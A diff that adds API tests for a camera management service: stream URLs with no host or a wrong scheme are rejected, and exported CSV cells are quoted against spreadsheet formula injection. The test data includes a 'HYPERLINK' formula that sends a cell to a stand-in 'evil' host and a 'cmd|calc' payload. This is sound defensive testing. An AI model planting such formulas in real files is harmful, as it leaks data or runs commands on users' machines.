@@ -75,6 +75,54 @@ test('a stream URL with embedded credentials is refused with the reason', async 
   assert.match(r.json.message, /body\.streams\.main: must not embed credentials/);
 });
 
+test('a stream URL that names no host is refused with the reason', async () => {
+  for (const main of ['rtsp://', 'rtsp:///x', 'rtsps:///stream?x=1', 'ftp://h/x', 'file:///etc/passwd']) {
+    const r = await admin.req('POST', '/api/cameras', cam('T-3', { streams: { main } }));
+    assert.equal(r.status, 400, main);
+    assert.match(r.json.message, /body\.streams\.main: must (name a host|be an rtsp)/, main);
+  }
+  const sub = await admin.req(
+    'POST',
+    '/api/cameras',
+    cam('T-3', { streams: { main: 'rtsp://h/x', sub: 'rtsp:///y' } }),
+  );
+  assert.match(sub.json.message, /body\.streams\.sub: must name a host/);
+  const patch = await admin.req('PATCH', '/api/cameras/VAL-001', { streams: { main: 'rtsp:///x' } });
+  assert.equal(patch.status, 400);
+  assert.equal((await admin.req('GET', '/api/cameras/T-3')).status, 404, 'nothing was created');
+});
+
+test('exported CSV cells that a spreadsheet would run as formulas are quoted, and re-import unchanged', async () => {
+  const names = ['=HYPERLINK("http://evil/"&A1)', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', "'=already quoted"];
+  for (const [i, name] of names.entries())
+    assert.equal(
+      (await admin.req('POST', '/api/cameras', cam(`F-${i}`, { name, address: name, tags: [`${name[0]}tag`] }))).status,
+      201,
+    );
+  const csv = await admin.req('GET', '/api/cameras/export?format=csv');
+  const lines = csv.text.split('\n').filter((l) => l.startsWith('F-'));
+  assert.equal(lines.length, names.length);
+  for (const line of lines) {
+    const cells = line.split(',').slice(1);
+    for (const cell of cells) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, `cell ${cell} of ${line}`);
+  }
+  assert.ok(
+    lines.some((l) => l.includes('-2+3') && l.includes("'-2+3")),
+    'a leading minus is quoted too',
+  );
+  try {
+    const imp = await admin.req('POST', '/api/cameras/import', csv.text, { 'content-type': 'text/csv' });
+    assert.equal(imp.status, 200, imp.text);
+    for (const [i, name] of names.entries()) {
+      const c = (await admin.req('GET', `/api/cameras/F-${i}`)).json;
+      // The import trims cells (the tab case), as it always has.
+      assert.deepEqual([c.name, c.address, c.tags], [name.trim(), name.trim(), [`${name[0]}tag`.trim()]], `F-${i}`);
+    }
+  } finally {
+    for (let i = 0; i < names.length; i++) await admin.req('DELETE', `/api/cameras/F-${i}`);
+  }
+});
+
 test('CSV export → import round trip through the API', async () => {
   const csv = await admin.req('GET', '/api/cameras/export?format=csv');
   assert.equal(csv.status, 200);
